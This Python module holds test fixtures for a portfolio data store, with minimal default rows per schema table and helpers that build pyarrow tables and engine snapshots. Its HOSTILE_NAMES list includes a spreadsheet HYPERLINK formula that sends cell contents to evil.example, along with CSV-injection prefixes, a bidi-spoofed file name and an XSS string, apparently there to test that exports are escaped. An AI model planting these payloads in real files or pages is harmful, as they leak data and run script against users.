"""Small ugly portfolios: a test writes the cells that matter, the rest is filled in."""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from pathlib import Path
from types import MappingProxyType
from typing import Any, TypeAlias

import pyarrow as pa
from hypothesis import settings

from ess.portfolio.schema import TABLES, arrow_schema
from ess.store.engine import Engine, open_engine
from ess.store.writing import write_snapshot

Cells: TypeAlias = Mapping[str, Any]
Tables: TypeAlias = dict[str, pa.Table]

#: Properties: the same examples on every run, and no clock that could fail one.
PROPERTY = settings(derandomize=True, deadline=None, database=None, max_examples=50)
#: Properties that write a snapshot and ask the engine for every example.
SLOW_PROPERTY = settings(PROPERTY, max_examples=15)

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Sénégal")'
HOSTILE_NAMES = (
    FORMULA,
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "  =1+1",
    "\tcmd",
    'He said "no", twice; then left',
    "two\nlines\r\nand a third",
    "\u202egnp.exe\u2066 bidi",
    "<img src=x onerror=alert(1)>${alert(1)}`x`",
    "Côte d'Ivoire — التعاون 🌍",
)

_REQUIRED: Mapping[str, Cells] = MappingProxyType(
    {
        "sources": {"title_fr": "Un document", "title_en": "A document", "grade": "press_report"},
        "actors": {"name_fr": "Un acteur", "name_en": "An actor", "type": "10"},
        "programmes": {"title_fr": "Un programme", "title_en": "A programme", "kind": "programme"},
        "activities": {
            "type": "project",
            "title_fr": "Une activité",
            "title_en": "An activity",
            "modality": "unknown",
            "stage": "done",
            "start_precision": "unknown",
            "end_precision": "unknown",
            "umbrella": False,
            "counted": "one",
        },
        "places": {"role": "recipient"},
        "participants": {"role": "participant"},
        "tags": {"scheme": "theme", "code": "gender", "coded_by": "source"},
        "results": {
            "indicator": "trained",
            "qualifier": "=",
            "unit": "persons",
            "period_basis": "undated",
            "additive": True,
        },
        "finances": {"kind": "commitment", "currency": "USD"},
        "indicators": {"label_fr": "Formés", "label_en": "Trained", "unit": "persons", "mappable": True},
        "notes": {"about_table": "activities", "kind": "context", "text_fr": "Une note"},
    }
)
"""What a row says where a test says nothing: a valid row with as little as the schema allows."""


def portfolio(**rows: Iterable[Cells]) -> Tables:
    """Every table of the schema from the rows of some of them.

    Rows are numbered where they have no ``id``; ``indicators`` holds those that the results name.
    """
    given = {name: list(found) for name, found in rows.items()}
    unknown = given.keys() - TABLES.keys()
    if unknown:
        raise KeyError(f"no table {', '.join(sorted(unknown))}")
    named = dict.fromkeys(result.get("indicator", "trained") for result in given.get("results", ()))
    given.setdefault("indicators", [{"id": code} for code in named])
    return {name: _table(name, given.get(name, [])) for name in TABLES}


def _table(name: str, rows: list[Cells]) -> pa.Table:
    known = set(TABLES[name].column_names)
    filled = [_row(name, number, cells, known) for number, cells in enumerate(rows, start=1)]
    return pa.Table.from_pylist(filled, schema=arrow_schema(TABLES[name]))


def _row(name: str, number: int, cells: Cells, known: set[str]) -> dict[str, Any]:
    if not cells.keys() <= known:
        raise KeyError(f"{name} has no column {', '.join(sorted(cells.keys() - known))}")
    numbered = {"id": f"{name}-{number}"} if "id" in known else {}
    return {**numbered, **_REQUIRED[name], **cells}


def placed(activity: str, *countries: str, **cells: Any) -> list[dict[str, Any]]:
    """Places of an activity, one a country."""
    return [{"activity": activity, "iso3": iso3, **cells} for iso3 in countries]


def engine_of(tables: Tables, folder: Path) -> Engine:
    """An engine over `tables`, written as a snapshot of the store in `folder`."""
    return open_engine(write_snapshot(tables, folder, origin="test"))
